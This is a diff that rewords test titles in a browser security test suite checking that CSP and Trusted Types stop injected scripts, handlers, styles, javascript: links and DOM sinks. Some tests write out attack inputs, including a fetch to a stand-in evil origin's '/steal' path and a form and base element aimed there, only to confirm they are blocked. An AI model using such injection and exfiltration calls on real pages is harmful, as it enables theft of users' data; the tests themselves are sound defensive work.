@@ -64,23 +64,23 @@ afterEach(() => page.close())
 
 const injected = (): Promise<unknown> => page.evaluate('window.injected')
 
-test('our own scripts run: the file, and the inline one whose hash the build wrote', async () => {
+test('the app file and the hashed inline script run', async () => {
   expect(await page.evaluate('[window.own, window.app]')).toEqual(['ran', 'ran'])
 })
 
-describe('what was put into the page does not run', () => {
-  test('an inline script, an event handler, a script from elsewhere, an inline style', async () => {
+describe('injected content', () => {
+  test('injected scripts, event handlers and styles do not run', async () => {
     expect(await injected()).toBeUndefined()
     expect(evilAsked).toEqual([])
     expect(await page.evaluate('getComputedStyle(document.body).color')).not.toBe('rgb(1, 2, 3)')
   })
 
-  test('a javascript: link', async () => {
+  test('a javascript: link does not run', async () => {
     await page.click('#link')
     expect(await injected()).toBeUndefined()
   })
 
-  test('a script element made later, inline or from elsewhere', async () => {
+  test('a script element added later does not run', async () => {
     await page.evaluate(`
       const inline = document.createElement('script')
       inline.append("window.injected = 'made'")
@@ -101,7 +101,7 @@ describe('what was put into the page does not run', () => {
     ['outerHTML', `document.body.firstElementChild.outerHTML = '<b>x</b>'`],
     ['insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`],
     ['document.write', `document.write('<b>x</b>')`],
-    ['a policy nobody registered', `trustedTypes.createPolicy('other', {})`],
+    ['an unregistered policy', `trustedTypes.createPolicy('other', {})`],
   ])('%s throws', async (_name, code) => {
     const name = await page.evaluate(
       `(() => { try { ${code}; return 'ran' } catch (error) { return error.name } })()`,
@@ -109,7 +109,7 @@ describe('what was put into the page does not run', () => {
     expect(name).toBe('TypeError')
   })
 
-  test('data cannot leave to another host', async () => {
+  test('data cannot be sent to another host', async () => {
     const sent = await page.evaluate(
       `fetch('${evilOrigin}/steal', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')`,
     )
@@ -117,7 +117,7 @@ describe('what was put into the page does not run', () => {
     expect(evilAsked).toEqual([])
   })
 
-  test('a form cannot be sent elsewhere, a base cannot be set', async () => {
+  test('a form cannot post elsewhere, and a base cannot be set', async () => {
     await page.evaluate(`
       const base = document.createElement('base')
       base.href = '${evilOrigin}/'
